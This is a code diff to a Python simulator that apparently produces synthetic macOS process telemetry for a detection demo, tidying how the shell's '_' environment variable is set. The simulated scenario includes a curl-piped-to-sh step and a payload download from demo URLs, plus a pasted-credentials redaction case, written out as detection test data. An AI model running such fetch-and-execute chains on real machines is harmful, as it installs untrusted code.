@@ -265,7 +265,7 @@ def demo(mac: Mac, events: int) -> Iterator[None]:
     terminal = mac.launch_job(DEMO_TERMINAL_LABEL, mac.image(TERMINAL, "com.apple.Terminal"), [TERMINAL],
                               uid=ALICE, gid=GID_STAFF, asid=ALICE_ASID, env=["__CFBundleIdentifier=com.apple.Terminal"])
     _after_exec(mac, terminal)
-    tty = mac.file(DEMO_TTY, mode=0o20620, uid=ALICE, gid=GID_TTY, size=0)
+    tty = mac.file(DEMO_TTY, mode=0o20620, uid=ALICE, gid=GID_TTY, size=0, age_ns=0)
     tty.rdev = 0x10000000
     mac.open(terminal, "/dev/ptmx", FREAD | FWRITE)
     env0 = shell_env()
@@ -296,19 +296,19 @@ def demo(mac: Mac, events: int) -> Iterator[None]:
     pipe_id = 0x4E7F_1A2B_9C3D_5E6F & rng.getrandbits(63)
     curl_img = mac.image("/usr/bin/curl", "com.apple.curl")
     curl = mac.fork(zsh, new_group=True)
-    mac.exec(curl, curl_img, ["curl", "-fsSL", DEMO_SCRIPT_URL], env0,
+    mac.exec(curl, curl_img, ["curl", "-fsSL", DEMO_SCRIPT_URL], _last_command(env0, "/usr/bin/curl"),
              fds=[(0, PROX_FDTYPE_VNODE, None), (1, PROX_FDTYPE_PIPE, pipe_id), (2, PROX_FDTYPE_VNODE, None)])
     _after_exec(mac, curl)
     sh = mac.fork(zsh, pgid=curl.pid)
     sh_img = mac.image("/bin/sh", "com.apple.sh")
-    mac.exec(sh, sh_img, ["sh"], env0,
+    mac.exec(sh, sh_img, ["sh"], _last_command(env0, "/bin/sh"),
              fds=[(0, PROX_FDTYPE_PIPE, pipe_id), (1, PROX_FDTYPE_VNODE, None), (2, PROX_FDTYPE_VNODE, None)])
     _after_exec(mac, sh)
     for cert in ("/private/etc/ssl/cert.pem", "/private/etc/ssl/openssl.cnf"):
         mac.open(curl, cert, FREAD)
         mac.close(curl, cert)
     mac.exit(curl, 0)
-    env_sh = env0[:-1] + ("_=/usr/bin/curl",)
+    env_sh = _last_command(env0, "/bin/sh")
     # 1. download the payload
     dl = mac.spawn(sh, curl_img, ["curl", "-fsSL", "-o", DEMO_PAYLOAD_ARG, DEMO_PAYLOAD_URL], env_sh)
     _after_exec(mac, dl)
@@ -353,7 +353,7 @@ def demo(mac: Mac, events: int) -> Iterator[None]:
 
     # A developer pastes credentials on a command line (redaction demo).
     mac.sleep(30)
-    py_env = env0[:-1] + DEMO_SECRETS[1:] + ("_=/usr/bin/python3",)
+    py_env = _last_command(env0 + DEMO_SECRETS[1:], "/usr/bin/python3")
     py = mac.spawn(zsh, mac.image("/usr/bin/python3", "com.apple.python3"),
                    ["python3", "-c", "import sys; print(sys.argv[1:])", DEMO_SECRETS[0], "--user=alice"], py_env,
                    new_group=True)
@@ -384,6 +384,11 @@ def demo(mac: Mac, events: int) -> Iterator[None]:
         yield
 
 
+def _last_command(env: tuple, path: str) -> tuple:
+    """The environment a shell passes: ``_`` names the command being run."""
+    return tuple(e for e in env if not e.startswith("_=")) + (f"_={path}",)
+
+
 def _tty_fds(extra: int = 0) -> list[tuple]:
     fds = [(0, PROX_FDTYPE_VNODE, None), (1, PROX_FDTYPE_VNODE, None), (2, PROX_FDTYPE_VNODE, None)]
     if extra:
@@ -397,11 +402,11 @@ def zsh_tools(mac: Mac, zsh: Proc, env: tuple) -> None:
                             (["git", "status"], "/usr/bin/git", "com.apple.git"),
                             (["uname", "-a"], "/usr/bin/uname", "com.apple.uname")):
         p = mac.fork(zsh, new_group=True)
-        mac.exec(p, mac.image(path, sid), args, env[:-1] + (f"_={path}",))
+        mac.exec(p, mac.image(path, sid), args, _last_command(env, path))
         _after_exec(mac, p)
         if args[0] == "git":
             clt = "/Library/Developer/CommandLineTools/usr/bin/git"
-            mac.exec(p, mac.image(clt, "com.apple.git"), [clt, "status"], env[:-1] + (f"_={path}",))
+            mac.exec(p, mac.image(clt, "com.apple.git"), [clt, "status"], _last_command(env, path))
             for f in (f"{HOME}/.gitconfig", f"{HOME}/src/osq-demo/.git/HEAD", f"{HOME}/src/osq-demo/.git/index"):
                 mac.open(p, f, FREAD)
                 mac.close(p, f)
@@ -664,7 +669,7 @@ def bench(mac: Mac, events: int) -> Iterator[None]:
 
 def _tool_plan(mac: Mac, rng, third: list, parent: Proc) -> list:
     """What a shell child execs: a shim then the real tool (xcrun-style), or one binary."""
-    env = parent.env[:-1] + ("_=/usr/bin/env",) if parent.env else ()
+    env = _last_command(parent.env, "/usr/bin/env") if parent.env else ()
     env_tool = mac.image("/usr/bin/env", "com.apple.env")
     if rng.random() < 0.25:  # a "#!/usr/bin/env node" script: env, then the interpreter
         img = third[rng.randrange(len(third))]
